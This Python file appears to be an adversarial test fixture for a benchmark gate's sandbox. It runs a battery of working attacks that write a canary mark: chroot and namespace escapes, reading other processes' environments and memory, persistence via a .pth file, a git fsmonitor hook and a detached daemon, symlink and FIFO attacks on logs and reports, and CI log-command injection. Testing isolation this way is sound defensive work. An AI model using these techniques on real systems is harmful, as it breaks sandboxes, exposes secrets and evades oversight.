"""A head that means harm: tries everything below, in every run, and goes on whatever fails.

What can only be seen from inside (a secret that it found) ends it with ATTACK WORKED; of all else
the host's files tell afterwards. Started with a folder of victims, in which MARK must never be.
"""

from __future__ import annotations

import ctypes
import glob
import os
import subprocess
import sys
from pathlib import Path

MARK = "ATTACK WORKED"
SECRET = "sw0rdf1sh-of-the-job"
HARM = f"# {MARK}\n"


def append(path: str | Path) -> None:
    with Path(path).open("a", encoding="utf-8") as file:
        file.write(HARM)


def each(pattern: str) -> list[str]:
    return glob.glob(pattern)  # noqa: PTH207  an absolute pattern


def edit_base(told: dict[str, str]) -> None:
    """The other arm's code, by where worktrees lie and by git's own books."""
    for path in each(f"{told['tmp']}/gpu-advisor-*/*/bench.py"):
        Path(path).write_text("print('throughput:', 50)\n")
    for book in each(f"{told['head']}/.git/worktrees/*/gitdir"):
        (Path(Path(book).read_text().strip()).parent / "bench.py").write_text("print(1)\n")


def edit_base_through_others(told: dict[str, str]) -> None:
    for folder in each("/proc/[0-9]*/cwd") + each("/proc/[0-9]*/root") + each("/proc/[0-9]*/fd/*"):
        for name in (f"{folder}/bench.py", folder + told["victims"] + "/env"):
            if folder.split("/")[2] != str(os.getpid()):
                append(name)


def write_command_files(told: dict[str, str]) -> None:
    for path in each(f"{told['victims']}/*"):
        append(path)


def replace_command_files(told: dict[str, str]) -> None:
    for path in each(f"{told['victims']}/*"):
        draft = Path(f"{path}.draft")
        draft.write_text(HARM)
        draft.replace(path)


def link_command_files(told: dict[str, str]) -> None:
    for path in each(f"{told['victims']}/*"):
        os.link(path, f"linked-{Path(path).name}")
        append(f"linked-{Path(path).name}")


def read_own_environment(_: dict[str, str]) -> None:
    for name, value in os.environ.items():
        if SECRET in value:
            worked(f"{name} is in the environment")


def read_others_environment(_: dict[str, str]) -> None:
    for path in each("/proc/[0-9]*/environ"):
        try:
            if SECRET.encode() in Path(path).read_bytes():
                worked(f"{path} can be read")
        except OSError:
            continue


def read_others_memory(_: dict[str, str]) -> None:
    for path in each("/proc/[0-9]*/maps"):
        try:
            if "/gpu-advisor" in Path(path).read_text() and path.split("/")[2] != str(os.getpid()):
                Path(path.replace("maps", "mem")).open("rb").close()
                worked(f"{path} can be opened")
        except OSError:
            continue


def replace_report(told: dict[str, str]) -> None:
    for name in ("gate.md", "gate.json", "gate-comment.md"):
        path = Path(told["out"], name)
        path.unlink(missing_ok=True)
        path.symlink_to(f"{told['victims']}/env")


def replace_log(told: dict[str, str]) -> None:
    """The gate writes there what this program prints."""
    for name in ("stdout.log", "stderr.log"):
        log = scratch() / "logs" / name
        log.unlink(missing_ok=True)
        log.symlink_to(f"{told['victims']}/env")


def replace_folder_of_logs(told: dict[str, str]) -> None:
    logs = scratch() / "logs"
    logs.rename(scratch() / "away")
    logs.symlink_to(told["victims"])
    for name in ("stdout.log", "stderr.log"):
        append(scratch() / "away" / name)


def link_where_room_is_tried(told: dict[str, str]) -> None:
    for name in ("room", *(f"room-{pid}" for pid in range(1, 400))):
        (scratch() / name).symlink_to(f"{told['victims']}/env")


def link_what_is_told_of_files(told: dict[str, str]) -> None:
    for name in ("loaded.jsonl", "disturbed.json", "disturbed.tmp", "999.json"):
        (scratch() / "probe" / name).symlink_to(f"{told['victims']}/env")


def block_the_suite(_: dict[str, str]) -> None:
    """Who opened this pipe to read would wait for ever."""
    os.mkfifo(scratch() / "benchmark.json")


def poison_caches(told: dict[str, str]) -> None:
    for folder in each(f"{told['tmp']}/gpu-advisor-*/caches/base"):
        append(Path(folder, "poison.py"))


def stay_in_python(_: dict[str, str]) -> None:
    for folder in sys.path:
        if folder.endswith("site-packages"):
            Path(folder, "attacked.pth").write_text(f"import os # {MARK}\n")


def stay_at_home(_: dict[str, str]) -> None:
    for name in (".attacked", ".config/attacked"):
        append(Path.home() / name)


def hook_git(told: dict[str, str]) -> None:
    hook = Path(told["head"], ".git", "hooks", "post-checkout")
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\necho '{MARK}' >> {told['victims']}/env\n")
    hook.chmod(0o755)
    subprocess.run(["git", "config", "core.fsmonitor", str(hook)], check=False)


def stay_alive(told: dict[str, str]) -> None:
    """A daemon that writes once nobody looks any more."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            command = f"sleep 3; echo '{MARK}' >> {told['victims']}/env"
            os.execvp("sh", ["sh", "-c", command])
        os._exit(0)


def take_walls_down(told: dict[str, str]) -> None:
    """As root in a namespace of one's own, or in one more."""
    libc = ctypes.CDLL(None)
    for path in (b"/", told["victims"].encode(), b"/tmp"):
        libc.umount2(path, 2)
        libc.mount(b"none", path, None, 1 << 14 | 1 << 5 | 4096, None)
    append(Path(told["victims"], "env"))


def climb_out(told: dict[str, str]) -> None:
    below = Path("below")
    below.mkdir(exist_ok=True)
    if os.fork() == 0:
        try:
            os.chroot(below)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
            append(Path(told["victims"], "env"))
        finally:
            os._exit(0)
    os.wait()


def nest(told: dict[str, str]) -> None:
    if os.fork() == 0:
        try:
            ctypes.CDLL(None).unshare(0x1000_0000 | 0x2_0000)
            take_walls_down(told)
        finally:
            os._exit(0)
    os.wait()


def print_commands(_: dict[str, str]) -> None:
    print(f"::error::{MARK}\n##[error]{MARK}\n::set-env name=X::{MARK}\n::stop-commands::x\n::x::")


def scratch() -> Path:
    """The folder of this run, whose TMPDIR may lie elsewhere."""
    return Path(os.environ["GPU_ADVISOR_SPEC"]).parent


def worked(how: str) -> None:
    sys.exit(f"{MARK}: {how}")


ON_ITS_OWN_RECORDS = (
    replace_log, replace_folder_of_logs, link_where_room_is_tried, link_what_is_told_of_files,
    block_the_suite,
)  # fmt: skip
"""These cost the run its own rate: tried in a gate of their own."""

ATTACKS = (
    edit_base, edit_base_through_others, write_command_files, replace_command_files,
    link_command_files, read_own_environment, read_others_environment, read_others_memory,
    replace_report, poison_caches, stay_in_python, stay_at_home,
    hook_git, stay_alive, take_walls_down, climb_out, nest, print_commands,
)  # fmt: skip


def main() -> None:
    """Every attack; what to try, and TMP, OUT, VICTIMS and HEAD are told as arguments."""
    told = dict(zip(("tmp", "out", "victims", "head"), sys.argv[2:], strict=True))
    for attack in ON_ITS_OWN_RECORDS if sys.argv[1] == "records" else ATTACKS:
        try:
            attack(told)
        except (OSError, ValueError, RuntimeError):
            continue
    print("throughput:", 50 + (os.getpid() % 7) / 100)


if __name__ == "__main__":
    main()
